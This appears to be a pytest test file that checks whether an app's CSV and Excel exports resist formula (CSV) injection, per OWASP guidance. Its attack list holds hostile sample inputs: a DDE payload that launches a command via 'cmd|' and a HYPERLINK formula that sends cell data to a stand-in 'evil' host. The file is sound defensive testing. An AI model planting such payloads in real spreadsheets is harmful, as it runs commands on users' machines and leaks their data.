"""Spreadsheet exports never hand a spreadsheet a formula (OWASP's CSV-injection guidance).

The CSV is read back the ways spreadsheets read it: split on each separator a locale may use,
honouring quotes or not. No cell may start with a formula trigger. The .xlsx is opened with
openpyxl: every cell is a string cell holding exactly the words typed.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from app.exports import to_csv, to_xlsx
from tests.exports.test_exports import CARDS, make_action, make_commitment, make_workshop

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝"]
SEPARATORS = [",", ";", "\t", "|", "\n", "\r\n"]
PAYLOAD = "cmd|' /C calc'!A0"
# Every trigger at the start, and after every separator, with and without an opening quote.
ATTACKS = (
    [f"{t}{PAYLOAD}" for t in TRIGGERS]
    + [f"see{sep}{t}{PAYLOAD}" for sep in SEPARATORS for t in TRIGGERS]
    + [f'see{sep}"{t}{PAYLOAD}"' for sep in SEPARATORS for t in ("=", "@")]
    + ["see;=cmd|' /C calc'!A0", 'a;b;=HYPERLINK("http://evil/?"&A1)', "x,,-1+1", "x\t\t=1"]
)


def export_with(value: str) -> dict[str, Any]:
    cards = [{"id": 1, "kind": "insight", "text": value}, {"id": 2, "kind": "gap", "text": value}]
    return {
        "workshop": make_workshop(title=value),
        "actions": [make_action(1, title=value, owner=value[:80], card_ids=[1, 2])],
        "commitment": make_commitment(note=value),
        "cards": cards,
    }


def cells_as_read(text: str) -> list[str]:
    """Every cell a spreadsheet could see, whichever separator it splits on."""
    cells: list[str] = []
    for delimiter in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            cells += row
        # A reader that ignores quotes altogether, splitting lines and fields by hand.
        for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
            cells += [cell.strip('"') for cell in line.split(delimiter)]
    return cells


def formula_cells(text: str) -> list[str]:
    return [cell for cell in cells_as_read(text) if cell[:1] in TRIGGERS]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_the_csv_starts_a_formula_whatever_the_separator(attack: str) -> None:
    text = to_csv(**export_with(attack)).decode("utf-8-sig")
    assert formula_cells(text) == [], attack


def test_every_csv_field_is_quoted() -> None:
    text = to_csv(**export_with("plain words")).decode("utf-8-sig")
    for line in text.split("\r\n"):
        if line:
            assert line.startswith('"') and line.endswith('"'), line


@pytest.mark.parametrize("value", ["a=b", "1-2", "see; you later", "Commas, everywhere", "📎 @x"])
def test_csv_leaves_words_without_a_trigger_alone(value: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(**export_with(value)).decode("utf-8-sig"))))
    assert rows[0] == ["Workshop", value]


def workbook_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Actions"]
    return [cell for row in book["Actions"].iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_holds_every_word_as_text_never_a_formula(attack: str) -> None:
    cells = workbook_cells(to_xlsx(**export_with(attack)))
    assert cells, "the workbook is empty"
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, cell.coordinate  # stays text when edited in Excel
    by_place = {cell.coordinate: cell.value for cell in cells}
    # The words come back as typed, with no apostrophe in front (unlike the CSV); every line
    # break is a plain "\n".
    typed = attack.replace("\r\n", "\n").replace("\r", "\n")
    assert by_place["B1"] == typed
    assert by_place["C2"] == typed
    assert by_place["A5"] == typed
    assert by_place["E5"] == f"{typed}\n{typed}"


def test_xlsx_lays_out_the_action_list_like_the_csv() -> None:
    actions = [
        make_action(1, status="in_progress", card_ids=[2, 1, 3], note="=Two wards\nstarted"),
        make_action(2, owner=None, due_date=None, status="dropped"),
    ]
    book = load_workbook(io.BytesIO(to_xlsx(make_workshop(), actions, make_commitment(), CARDS)))
    rows = [[c.value for c in row] for row in book["Actions"].iter_rows()]
    assert rows[0][:2] == ["Workshop", "Reducing onboarding time"]
    assert rows[1][:3] == ["Report back by", "2024-07-15", "Team retro, then email the sponsor"]
    assert rows[3] == ["Action", "Owner", "Due date", "Status", "Linked cards", "Note"]
    assert rows[4] == [
        "Action 1",
        "Olu",
        "2024-06-01",
        "In progress",
        "Who owns the dev setup docs?\nPair on the first ticket",
        # The follow-up note, last, as the record's action table and the CSV have it.
        "=Two wards\nstarted",
    ]
    assert book["Actions"]["F5"].data_type == "s"
    assert rows[5] == ["Action 2", None, None, "Dropped", None, None]  # empty cells stay empty


def test_xlsx_drops_what_a_workbook_cannot_hold() -> None:
    title = "bell\x07 and null-ish\x1b end"
    long_text = "x" * 2000
    cards = [{"id": i, "kind": "insight", "text": long_text} for i in range(1, 21)]
    action = make_action(1, title=title, card_ids=list(range(1, 21)))
    book = load_workbook(io.BytesIO(to_xlsx(make_workshop(), [action], None, cards)))
    sheet = book["Actions"]
    assert sheet["A5"].value == "bell and null-ish end"
    assert len(sheet["E5"].value) == 32_767 and sheet["E5"].value.endswith("…")
